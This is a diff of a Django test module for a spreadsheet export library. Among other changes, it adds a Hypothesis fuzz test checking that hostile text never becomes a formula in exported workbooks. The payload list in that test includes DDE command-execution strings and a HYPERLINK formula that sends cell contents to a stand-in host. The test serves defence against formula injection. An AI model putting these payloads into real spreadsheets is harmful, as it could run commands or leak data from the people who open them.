@@ -8,12 +8,15 @@ from datetime import date, datetime
 from typing import Any
 
 from django.test import SimpleTestCase
+from hypothesis import given, settings
+from hypothesis import strategies as st
 from openpyxl import Workbook, load_workbook
 from openpyxl.styles import Alignment
 
 from qingfeng.lib.xlsx import (
     BAD_FILL,
     DATE_FORMAT,
+    FORMULA_START,
     OFFICE_ERRORS,
     WARN_FILL,
     Column,
@@ -25,8 +28,10 @@ from qingfeng.lib.xlsx import (
     cell_value,
     chinese_date,
     find_header,
+    new_workbook,
     office_sheet,
     open_book,
+    safe,
     save,
     styled,
     write_error_sheet,
@@ -53,7 +58,7 @@ def reopened(workbook: Workbook) -> Any:
 
 class SafeCellsTestCase(SimpleTestCase):
     def test_text_is_never_a_formula_nor_an_error_value(self) -> None:
-        book = Workbook(write_only=True)
+        book = new_workbook()
         ws = book.create_sheet("表1")
         ws.append(
             [
@@ -77,7 +82,7 @@ class SafeCellsTestCase(SimpleTestCase):
 
 class OfficeLayoutTestCase(SimpleTestCase):
     def write(self) -> bytes:
-        book = Workbook(write_only=True)
+        book = new_workbook()
         columns = LAYOUT.columns
         ws = office_sheet(
             book,
@@ -161,7 +166,7 @@ class ErrorWorkbookTestCase(SimpleTestCase):
         ]
         warnings = [RowError("人员", 6, "备注", "备注未导入")]
         positions = {"姓名": 0, "手机号": 1, "备注": 2}
-        book = Workbook(write_only=True)
+        book = new_workbook()
         write_error_sheet(
             book,
             name="人员",
@@ -193,7 +198,7 @@ class ErrorWorkbookTestCase(SimpleTestCase):
         self.assertIsNone(ws["D1"].value)
 
     def test_a_row_with_warnings_only_is_noted_not_marked_red(self) -> None:
-        book = Workbook(write_only=True)
+        book = new_workbook()
         write_error_sheet(
             book,
             name="表1",
@@ -212,7 +217,7 @@ class ErrorWorkbookTestCase(SimpleTestCase):
         self.assertEqual(ws.column_dimensions["D"].width, 60)
 
     def test_the_summary_lists_every_error_and_warning(self) -> None:
-        book = Workbook(write_only=True)
+        book = new_workbook()
         write_error_summary(
             book,
             [RowError("=表1", 0, "", "文件有误"), RowError("表1", 4, "手机号", "格式不正确")],
@@ -228,3 +233,57 @@ class ErrorWorkbookTestCase(SimpleTestCase):
                 ("提示", "表1", 6, None, "已在系统中"),
             ],
         )
+
+
+# What an attacker puts in a title: formulas, DDE, tab- and CR-led text, control characters.
+PAYLOADS = st.one_of(
+    st.text(),
+    st.sampled_from(["=", "+", "-", "@", "\t", "\r", "#N/A"]).flatmap(
+        lambda start: st.text().map(lambda rest: start + rest)
+    ),
+    st.just('=HYPERLINK("http://example.invalid/?"&A1,"点击查看")'),
+    st.just("+cmd|' /C calc'!A0"),
+    st.just("@SUM(1+1)*cmd|' /C calc'!A0"),
+)
+
+
+class ExportFuzzTestCase(SimpleTestCase):
+    """Every way a string reaches a sheet — appended bare, through a Style, through the
+    office layout's column styles, into an in-memory sheet — with hostile text: the file
+    opens, no cell is a formula, every string reads back as written less the characters
+    XML cannot hold, and one that starts like a formula carries the quote prefix."""
+
+    @settings(max_examples=60, deadline=None)
+    @given(values=st.lists(PAYLOADS, min_size=1, max_size=6))
+    def test_no_string_becomes_a_formula_or_breaks_the_file(self, values: list[str]) -> None:
+        book = new_workbook()
+        ws = book.create_sheet("导出")
+        ws.append(values)
+        ws.append([Style().cell(ws, v) for v in values])
+        layout = office_sheet(
+            book, LAYOUT.columns, name="台账", title=values[0], left=values[-1], right=""
+        )
+        styles = ColumnStyles(layout, LAYOUT.columns)
+        layout.append(styles.row((values * 7)[: len(LAYOUT.columns)]))
+        memory = new_workbook(write_only=False)
+        sheet = memory.active
+        assert sheet is not None
+        sheet.append(values)
+        sheet["H3"] = values[0]
+        for data in (save(book), save(memory)):
+            opened = load_workbook(io.BytesIO(data))
+            for sheet_read in opened.worksheets:
+                for row in sheet_read.iter_rows():
+                    for cell in row:
+                        if not isinstance(cell.value, str):
+                            continue
+                        self.assertNotEqual(cell.data_type, "f", cell.value)
+                        self.assertEqual(cell.value, safe(cell.value))
+                        if cell.value.startswith(FORMULA_START):
+                            self.assertTrue(cell.quotePrefix, cell.value)
+            strings = [c.value for c in opened.worksheets[0][1] if c.value is not None]
+            self.assertEqual(strings, [safe(v) for v in values if safe(v) != ""])
+
+    def test_a_workbook_not_made_for_export_is_refused(self) -> None:
+        with self.assertRaises(TypeError):
+            save(Workbook())
